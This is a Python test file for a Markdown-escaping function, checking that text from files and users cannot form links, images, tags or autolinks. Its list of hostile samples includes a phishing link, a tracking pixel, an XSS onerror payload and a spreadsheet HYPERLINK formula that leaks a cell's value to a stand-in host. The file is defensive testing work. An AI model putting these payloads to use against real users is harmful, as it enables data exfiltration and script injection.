"""Strings from files and users are shown as text: Markdown in them is not interpreted."""

from __future__ import annotations

import re

import pytest

from engagement.text import md_escape

HOSTILE = [
    "[click here](http://x.example/phish)",
    "![tracker](http://x.example/pixel.png)",
    "report http://x.example/a.csv and www.x.example",
    "<img src=x onerror=alert(1)> <b>bold</b>",
    ":red[alarm] :material/warning: $x^2$ **strong** _em_ `code`",
    "# heading\n- item\n> quote",
    "back\\slash [a]\\(b)",
    '=HYPERLINK("http://x.example/?leak="&A2,"click")',
]


def unescape(escaped: str) -> str:
    return re.sub(r"\\(.)", r"\1", escaped).replace("\u2060", "")


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_reads_back_exactly(text):
    escaped = md_escape(text)
    assert unescape(escaped) == " ".join(text.splitlines())


@pytest.mark.parametrize("text", HOSTILE)
def test_no_markdown_syntax_survives(text):
    escaped = md_escape(text)
    # every punctuation character is preceded by a backslash, so no link, image, tag,
    # emphasis, directive or autolinked URL can be formed
    bare = re.sub(r"\\.", "", escaped)
    assert not re.search(r"[\[\]()<>!*_`:#$/.\\-]", bare), bare
    assert "\n" not in escaped


def test_plain_words_and_none():
    assert md_escape("Geneva 2021") == "Geneva 2021"
    assert md_escape(None) == ""
    assert md_escape(ValueError("bad [x](y)")) == "bad \\[x\\]\\(y\\)"


def test_bare_urls_and_addresses_are_broken_for_autolinking():
    escaped = md_escape("see http://x.example, www.x.example or ana@x.example")
    assert "http\u2060\\:" in escaped
    assert "www\u2060\\." in escaped
    assert "ana\u2060\\@" in escaped
